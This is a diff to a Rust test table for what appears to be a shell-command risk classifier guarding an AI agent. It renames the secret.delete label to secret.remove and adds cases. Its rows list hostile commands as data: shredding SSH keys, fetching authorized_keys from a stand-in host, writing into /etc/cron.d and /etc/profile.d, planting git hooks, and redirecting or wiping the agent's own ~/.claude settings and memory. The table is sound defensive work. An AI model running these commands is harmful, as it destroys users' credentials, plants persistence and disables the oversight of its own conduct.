@@ -33,10 +33,10 @@ use super::{call, expect, rules_of};
      echo x > ~/.netrc => secret.write
      echo x >> ~/.npmrc => secret.write
      mv /tmp/c ~/.docker/config.json => secret.write
-     rm ~/.ssh/id_rsa => secret.delete
-     rm -f ~/.ssh/id_rsa ~/.ssh/id_rsa.pub => secret.delete persist.ssh
-     shred -u ~/.ssh/id_ed25519 => secret.delete
-     find . -name '*.pem' -delete => secret.delete
+     rm ~/.ssh/id_rsa => secret.remove
+     rm -f ~/.ssh/id_rsa ~/.ssh/id_rsa.pub => secret.remove persist.ssh
+     shred -u ~/.ssh/id_ed25519 => secret.remove
+     find . -name '*.pem' -delete => secret.remove
      echo x >> ~/.ssh/authorized_keys => persist.ssh
      tee -a ~/.ssh/authorized_keys => persist.ssh
      wget -O ~/.ssh/authorized_keys http://x => persist.ssh
@@ -91,6 +91,13 @@ use super::{call, expect, rules_of};
      cp hook .git/hooks/ => persist.git-hook
      echo x >> .git/config => persist.git-hook
      echo x >> ~/.gitconfig => persist.git-settings
+     sed 'w /etc/hosts' x => system.write
+     sed -n -e '1,3w /etc/x' y => system.write
+     wget -P /etc/profile.d http://x => system.write
+     curl -O --output-dir /etc/cron.d http://x => system.write
+     csplit -f /etc/x file 1 => system.write
+     patch -p0 -d /etc => system.write
+     echo x > .git/refs/heads/main => persist.git-hook
      ln -s / x => files.link-root
      ln -s ~ /tmp/h => files.link-root"
 )]
@@ -128,6 +135,9 @@ use super::{call, expect, rules_of};
      truncate -s0 /opt/claude/settings.json => own.registration
      chmod 000 .claude/settings.json => own.registration
      prettier --write .claude/settings.json => own.registration
+     ln -sfn /tmp/empty ~/.claude => own.registration
+     ln -s ~/.claude/settings.json s => own.registration
+     tar -xf x.tar -C ~/.claude settings.json => own.registration
      rm -rf ~/.config/ai/memory => own.memory
      echo x >> ~/.config/ai/memory/log/a/0001.jsonl => own.memory
      rm -rf ~/.local/state/ai => own.memory
@@ -160,6 +170,9 @@ use super::{call, expect, rules_of};
      echo x > .github/workflows/ci.yml
      echo x > .cursor/rules/a.mdc
      sed -i s/a/b/ src/a.rs
+     sed -n '/a/w out.txt' src/a.rs
+     sed 's/r x/w y/' src/a.rs
+     ln -sf ../x .
      sed -i '' s/a/b/ src/a.rs
      perl -pi -e s/a/b/ src/a.rs
      tee log.txt
